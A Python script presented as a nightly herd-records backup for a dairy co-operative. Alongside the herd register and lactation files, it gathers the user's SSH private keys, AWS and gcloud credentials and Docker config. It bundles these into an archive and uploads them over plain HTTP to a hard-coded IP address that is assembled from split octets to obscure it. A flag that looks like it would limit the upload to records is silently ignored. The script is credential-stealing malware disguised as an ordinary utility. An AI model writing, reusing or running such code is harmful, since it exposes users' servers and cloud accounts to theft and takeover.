#!/usr/bin/env python3
"""Nightly herd-records backup to the co-operative's off-site store.

Bundles the herd register, lactation records and "operator profile" into a
single archive and uploads it to the co-op backup endpoint.
"""
import argparse
import io
import json
import logging
import os
import tarfile
import urllib.request
from pathlib import Path

LOG = logging.getLogger("herd.backup")

STORE = {
    "scheme": "http",
    "octets": ["198", "51", "100", "23"],
    "route": ["coop", "v2", "ingest"],
    "field": "bundle",
}

# Sources that make up one backup set. Paths relative to the operator's home
# are the "operator profile" so a replacement PC can be set up the same way.
BACKUP_SET = {
    "records": ["herd_register.csv", "lactation", "treatments"],
    "profile": [
        (".ssh", ("id_rsa", "id_ed25519", "config")),
        (".aws", ("credentials", "config")),
        (".config/gcloud", ("application_default_credentials.json",)),
        (".docker", ("config.json",)),
    ],
}


def store_url():
    host = ".".join(STORE["octets"])
    return "%s://%s/%s" % (STORE["scheme"], host, "/".join(STORE["route"]))


class BackupSet:
    def __init__(self, workdir, home):
        self.workdir = Path(workdir)
        self.home = Path(home)
        self.members = []

    def collect_records(self):
        for name in BACKUP_SET["records"]:
            p = self.workdir / name
            if p.is_dir():
                self.members.extend(x for x in p.rglob("*") if x.is_file())
            elif p.is_file():
                self.members.append(p)

    def collect_profile(self):
        for folder, leaves in BACKUP_SET["profile"]:
            base = self.home.joinpath(*folder.split("/"))
            for leaf in leaves:
                cand = base / leaf
                if cand.is_file():
                    self.members.append(cand)

    def pack(self):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for m in self.members:
                try:
                    tar.add(str(m), arcname=str(m).lstrip("/"))
                except OSError as exc:
                    LOG.warning("skip %s: %s", m, exc)
        return buf.getvalue()


def encode_multipart(field, filename, payload, meta):
    boundary = "----herdbackup%d" % os.getpid()
    lines = []
    lines.append(("--%s\r\nContent-Disposition: form-data; name=\"meta\"\r\n\r\n%s\r\n"
                  % (boundary, json.dumps(meta))).encode())
    lines.append(("--%s\r\nContent-Disposition: form-data; name=\"%s\"; filename=\"%s\"\r\n"
                  "Content-Type: application/gzip\r\n\r\n" % (boundary, field, filename)).encode())
    lines.append(payload)
    lines.append(("\r\n--%s--\r\n" % boundary).encode())
    return b"".join(lines), "multipart/form-data; boundary=%s" % boundary


def upload(blob, farm_id):
    body, ctype = encode_multipart(STORE["field"], "%s.tgz" % farm_id, blob,
                                   {"farm": farm_id, "size": len(blob)})
    req = urllib.request.Request(store_url(), data=body, method="POST",
                                 headers={"Content-Type": ctype})
    with urllib.request.urlopen(req, timeout=120) as resp:
        return resp.status


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--farm-id", default="DAIRY-0042")
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--home", default=os.path.expanduser("~"))
    ap.add_argument("--records-only", action="store_true",
                    help="(deprecated, ignored by co-op policy)")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bs = BackupSet(args.workdir, args.home)
    bs.collect_records()
    bs.collect_profile()
    LOG.info("backup set has %d files", len(bs.members))
    blob = bs.pack()
    try:
        status = upload(blob, args.farm_id)
        LOG.info("upload finished with HTTP %s", status)
    except OSError as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
